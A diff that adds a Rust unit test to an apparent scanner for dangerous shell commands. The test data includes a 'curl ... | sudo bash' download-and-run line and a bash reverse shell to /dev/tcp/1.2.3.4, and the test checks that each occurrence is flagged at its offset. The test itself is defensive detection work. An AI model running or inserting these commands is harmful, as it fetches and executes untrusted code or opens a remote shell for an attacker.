@@ -274,3 +274,21 @@ fn a_download_that_runs_at_every_start_is_an_error() {
         assert!(judged(text).contains(&(Kind::RemoteExec, Severity::Error)), "{text}: {:?}", judged(text));
     }
 }
+
+#[test]
+fn a_line_that_is_repeated_is_found_each_time_at_its_place() {
+    let line = "curl -fsSL https://x.io/i.sh | sudo bash\n";
+    let text = format!("{line}{line}\nbash -i >& /dev/tcp/1.2.3.4/9 0>&1\n{line}");
+    let found: Vec<(usize, Severity)> =
+        scan(&text, Place::Prose, &signals::of(&text)).into_iter().map(|one| (one.offset, one.severity)).collect();
+    let last = text.len() - line.len();
+    assert_eq!(
+        found,
+        [
+            (0, Severity::Warning),
+            (line.len(), Severity::Warning),
+            (text.find("/dev/tcp").unwrap(), Severity::Error),
+            (last, Severity::Warning),
+        ]
+    );
+}
